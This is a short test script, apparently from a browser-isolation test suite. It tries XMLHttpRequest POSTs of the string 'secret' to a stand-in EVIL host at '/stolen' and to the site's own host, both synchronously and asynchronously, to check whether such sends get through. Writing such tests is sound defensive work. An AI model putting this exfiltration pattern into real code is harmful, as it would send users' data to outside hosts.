# Tries XMLHttpRequest, waiting and not.
scope = await find_global()


def send(address, in_background):
    request = scope.XMLHttpRequest.new()
    request.open("POST", address, in_background)
    request.send("secret")


for in_background in (False, True):
    await attempt(f"evil {in_background}", lambda: send(EVIL + "/stolen", in_background))
    await attempt(f"site {in_background}", lambda: send(SITE + "stolen", in_background))
await asyncio.sleep(0.3)
print("tried")
